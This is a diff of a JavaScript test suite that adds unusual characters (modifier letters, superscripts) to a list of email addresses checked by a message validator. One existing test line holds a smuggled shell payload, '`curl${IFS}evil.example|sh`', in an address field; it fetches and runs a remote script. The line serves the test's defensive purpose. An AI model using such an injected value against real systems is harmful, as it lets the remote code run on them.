@@ -75,6 +75,9 @@ describe('a message', () => {
       '`curl$' + '{IFS}evil.example|sh`@visitor.example',
       ...[...'`$|&{}'].map((sign) => `a${sign}b@b.co`),
       ...[...'–*_~=/+-#%^?.'].map((sign) => `${sign}ada@visitor.example`),
+      // Letters that modify another one, and superscripts.
+      ...[...'ˈˌـーªºʰⁿ'].map((sign) => `${sign}ada@visitor.example`),
+      'adaª@visitor.example',
       'Ada <ada@visitor.example> and <obi@visitor.example>',
     ]) {
       assert.deepEqual(
